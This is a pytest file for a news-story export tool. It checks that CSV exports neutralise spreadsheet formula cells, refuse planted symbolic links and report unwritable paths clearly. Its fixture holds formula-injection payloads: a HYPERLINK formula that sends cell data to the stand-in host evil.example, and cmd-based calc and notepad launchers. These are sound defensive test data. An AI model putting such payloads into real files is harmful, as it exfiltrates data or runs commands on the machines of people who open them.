"""Exports against hostile data and hostile folders: formula cells, planted links, bad paths."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest

from storyline.errors import UnwritableOutput
from storyline.export import export_stories
from storyline.export.files import replacing, write_text
from storyline.store import open_store
from storyline.untrusted import for_spreadsheet

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?d="&A1,"Click for the full story")',
    "outlet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "author": "+cmd|' /C notepad'!A0",
    "section": "-2+3",
}
BODY = (
    "=1+2 The city council of Brenholt voted on Friday to open the library on Sundays, officials said.\n\n"
    "The mayor said the plan costs 40,000 euros a year."
)


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A store whose one story is told by an article with formulas in its title, outlet and author."""
    from typer.testing import CliRunner

    from storyline.cli import app

    folder = tmp_path_factory.mktemp("formulas")
    record = {
        "title": FORMULAS["title"],
        "outlet": FORMULAS["outlet"],
        "author": FORMULAS["author"],
        "categories": [FORMULAS["section"]],
        "text": BODY,
        "published": "2024-03-08",
    }
    (folder / "record.json").write_text(json.dumps(record), encoding="utf-8")
    url = f"sqlite:///{folder / 'store.db'}"
    result = CliRunner().invoke(app, ["--db", url, "ingest", str(folder / "record.json")])
    assert result.exit_code == 0, result.output
    return url


def test_spreadsheet_cells_never_start_a_formula():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201"):
        assert for_spreadsheet(text) == "'" + text
    for text in ("1+1", "Council votes", "", " =1", "'quoted"):
        assert for_spreadsheet(text) == text


def test_csv_export_neutralises_formula_cells_and_jsonl_keeps_them(db, tmp_path):
    store = open_store(db)
    export_stories(store, tmp_path / "csv", format="csv")
    export_stories(store, tmp_path / "jsonl", format="jsonl")
    with open(tmp_path / "csv" / "articles.csv", encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["title"] == "'" + FORMULAS["title"]
    assert row["outlet"] == "'" + FORMULAS["outlet"]
    assert row["author"] == "'" + FORMULAS["author"]
    assert row["version"] == "1"  # numbers stay numbers
    for table in ("articles", "sentences", "stories", "timelines", "claims"):
        with open(tmp_path / "csv" / f"{table}.csv", encoding="utf-8", newline="") as file:
            cells = [cell for line in csv.reader(file) for cell in line]
        assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-2")], table
    lines = (tmp_path / "jsonl" / "articles.jsonl").read_text(encoding="utf-8").splitlines()
    (article,) = [json.loads(line) for line in lines]
    assert (article["title"], article["outlet"]) == (FORMULAS["title"], FORMULAS["outlet"])


def test_the_cli_csv_listings_neutralise_formula_cells(cli, db):
    (article,) = csv.DictReader(io.StringIO(cli("--db", db, "articles", "--format", "csv").stdout))
    assert (article["title"], article["outlet"]) == ("'" + FORMULAS["title"], "'" + FORMULAS["outlet"])
    (story,) = csv.DictReader(io.StringIO(cli("--db", db, "stories", "--format", "csv").stdout))
    assert story["title"].startswith("'=1+2 The city council")  # a story is named by its lead


@pytest.mark.parametrize(
    ("format", "name"), [("jsonl", "claims.jsonl"), ("csv", "articles.csv"), ("markdown", None)]
)
def test_a_planted_link_is_refused_and_nothing_is_written(cli, db, tmp_path, format, name):
    story = open_store(db).list_stories()[0].id
    out = tmp_path / "out"
    out.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("keep me", encoding="utf-8")
    planted = out / (name or f"{story}.md")
    planted.symlink_to(secret)
    result = cli("--db", db, "export", "--all", "--format", format, "--out", str(out))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"{planted} is a symbolic link" in result.stderr.replace("\n", "")
    assert secret.read_text(encoding="utf-8") == "keep me"
    assert sorted(p.name for p in out.iterdir()) == [planted.name]  # no table, no temporary file


def test_brief_refuses_a_link_and_says_why_a_file_cannot_be_written(cli, db, tmp_path):
    story = open_store(db).list_stories()[0].id
    secret = tmp_path / "secret.txt"
    secret.write_text("keep me", encoding="utf-8")
    link = tmp_path / "brief.md"
    link.symlink_to(secret)
    result = cli("--db", db, "brief", story, "-o", str(link))
    assert result.exit_code == 1 and "is a symbolic link" in result.stderr
    assert secret.read_text(encoding="utf-8") == "keep me"

    cases = [(tmp_path / "no-such-folder" / "x.md", "No such file or directory")]
    if Path("/dev/full").exists():
        cases.append((Path("/dev/full"), "No space left on device"))
    cases.append((tmp_path / ("x" * 300 + ".md"), "File name too long"))
    for path, reason in cases:
        result = cli("--db", db, "brief", story, "-o", str(path))
        assert result.exit_code == 1 and "Traceback" not in result.output, path
        assert result.stderr == f"error: cannot write {path}: {reason}\n"

    written = tmp_path / "brief-ok.md"
    assert cli("--db", db, "brief", story, "-o", str(written)).exit_code == 0
    assert written.read_text(encoding="utf-8").startswith("---\n")


def test_export_into_a_bad_folder_is_one_line(cli, db, tmp_path):
    long = tmp_path / ("y" * 300)
    result = cli("--db", db, "export", "--all", "--out", str(long))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert result.stderr == f"error: cannot create the folder {long}: File name too long\n"


def test_a_replaced_file_keeps_its_mode_and_a_failure_keeps_the_old_file(tmp_path):
    path = tmp_path / "notes.md"
    path.write_text("old", encoding="utf-8")
    os.chmod(path, 0o640)
    write_text(path, "new")
    assert path.read_text(encoding="utf-8") == "new" and stat.S_IMODE(path.stat().st_mode) == 0o640
    with pytest.raises(RuntimeError), replacing(path) as temporary:
        temporary.write_text("half", encoding="utf-8")
        raise RuntimeError("the export failed half-way")
    assert path.read_text(encoding="utf-8") == "new" and list(tmp_path.iterdir()) == [path]
    with pytest.raises(UnwritableOutput, match="Is a directory"):
        write_text(tmp_path, "a folder is not a file")
